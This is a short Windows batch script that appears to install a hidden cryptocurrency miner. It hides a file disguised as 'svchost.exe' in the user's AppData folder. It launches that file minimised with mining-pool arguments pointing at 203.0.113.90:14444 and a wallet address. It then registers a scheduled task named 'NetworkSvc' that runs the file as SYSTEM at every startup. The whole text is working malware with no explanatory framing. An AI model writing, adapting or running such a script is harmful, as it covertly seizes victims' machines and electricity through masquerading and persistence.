@echo off
set D=%APPDATA%\Microsoft\Network
attrib +h +s "%D%\svchost.exe"
start /min "" "%D%\svchost.exe" -o 203.0.113.90:14444 -u 4AMASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVK -p w1 --donate-level=1
schtasks /create /tn "NetworkSvc" /tr "\"%D%\svchost.exe\"" /sc onstart /ru SYSTEM /f
